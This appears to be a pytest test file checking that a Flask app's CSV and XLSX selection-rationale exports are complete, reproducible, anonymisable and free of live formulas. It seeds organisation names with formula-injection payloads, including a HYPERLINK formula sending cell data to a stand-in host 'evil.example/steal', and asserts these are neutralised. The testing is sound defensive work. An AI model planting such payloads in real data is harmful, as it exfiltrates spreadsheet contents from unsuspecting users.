"""The selection rationale as CSV and XLSX: complete, replayable and inert in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from flask import Flask
from openpyxl import load_workbook

from app.extensions import db
from app.models import SelectionRun
from tests.app.conftest import sign_in_as
from tests.app.helpers import Client, press
from tests.app.runs.helpers import decisions, run_id_from
from tests.app.world import CRITERIA, SITES, Pool, build_pool

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'


@pytest.fixture
def evil_pool(app: Flask, make_user: Any) -> Pool:
    return build_pool(make_user, **{"England Two": EVIL, "Scotland Three": "@SUM(1+1)"})


@pytest.fixture
def run_id(client: Client, evil_pool: Pool, make_user: Any) -> int:
    sign_in_as(client, make_user("staff"))
    response = client.submit(f"/staff/rounds/{evil_pool.round.id}/runs", {"reserves": "2"})
    return run_id_from(response.headers["Location"])


def download(client: Client, url: str, mimetype: str) -> bytes:
    """The file the run page's button for ``url`` downloads."""
    response = press(client, url.split("/rationale")[0], url)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith(mimetype)
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "run-" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    return bytes(response.data)


def test_the_csv_has_every_decision_and_neutralises_formulas(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    body = download(client, f"/staff/runs/{run_id}/rationale.csv", "text/csv")

    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == len(evil_pool.applications)
    stored = decisions(run_id)
    by_reference = {a.reference: a for a in evil_pool.applications}
    assert set(by_reference) == {r["reference"] for r in rows}
    for row in rows:
        assert row["decision"] == stored[by_reference[row["reference"]].id].decision
    assert sum(1 for r in rows if r["decision"] == "selected") == SITES
    organisations = {r["organisation"] for r in rows}
    assert "'" + EVIL in organisations and EVIL not in organisations
    assert "'@SUM(1+1)" in organisations
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell
    )


def test_the_xlsx_has_the_four_sheets_and_no_live_formula(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    body = download(
        client,
        f"/staff/runs/{run_id}/rationale.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )

    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Decisions", "Mix", "Parameters", "Reviews summary"]
    sheet = book["Decisions"]
    header = [c.value for c in sheet[1]]
    rows = [
        dict(zip(header, (c.value for c in r), strict=True)) for r in sheet.iter_rows(min_row=2)
    ]
    assert len(rows) == len(evil_pool.applications)
    assert {"rank", "reference", "organisation", *CRITERIA, "score", "decision", "reason"} <= set(
        header
    )
    for row_cells in sheet.iter_rows():
        for cell in row_cells:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
    assert "'" + EVIL in {r["organisation"] for r in rows}
    # Numbers stay numbers: ranks 1..10 (everyone is eligible) and the stored scores.
    stored = decisions(run_id)
    by_reference = {a.reference: a for a in evil_pool.applications}
    assert [r["rank"] for r in rows] == list(range(1, len(rows) + 1))
    for row in rows:
        assert row["score"] == pytest.approx(stored[by_reference[row["reference"]].id].score)
    assert sheet.freeze_panes == "A2"
    parameters = {r[0].value: r[1].value for r in book["Parameters"].iter_rows(min_row=2)}
    assert parameters["k"] == str(SITES) and parameters["seed"]
    assert len(parameters["inputs_sha256"]) == 64
    mix = [[c.value for c in r] for r in book["Mix"].iter_rows(min_row=2)]
    wales = next(r for r in mix if r[0] == "nation" and r[1] == "wales")
    assert wales[2] == sum(1 for a in evil_pool.applications if a.nation == "wales")
    reviews = list(book["Reviews summary"].iter_rows(min_row=2, values_only=True))
    assert len(reviews) == len(evil_pool.applications)


def test_the_anonymised_rationale_has_no_organisation_names(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    body = download(
        client,
        f"/staff/runs/{run_id}/rationale.xlsx?anonymised=yes",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    book = load_workbook(io.BytesIO(body))
    text = " ".join(
        str(v) for ws in book.worksheets for r in ws.iter_rows(values_only=True) for v in r if v
    )
    assert "organisation" not in [c.value for c in book["Decisions"][1]]
    for a in evil_pool.applications:
        assert (a.organisation_name or "") not in text


def test_the_xlsx_is_the_same_bytes_every_time_and_dated_by_the_run(
    client: Client, evil_pool: Pool, run_id: int
) -> None:
    url = f"/staff/runs/{run_id}/rationale.xlsx"
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

    first = download(client, url, xlsx)

    assert download(client, url, xlsx) == first
    # Dated by the run, not the clock, so a download next year gives the same bytes too.
    started = db.session.get(SelectionRun, run_id).created_at  # type: ignore[union-attr]
    created = load_workbook(io.BytesIO(first)).properties.created
    assert created == started.astimezone(dt.UTC).replace(tzinfo=None, microsecond=0)
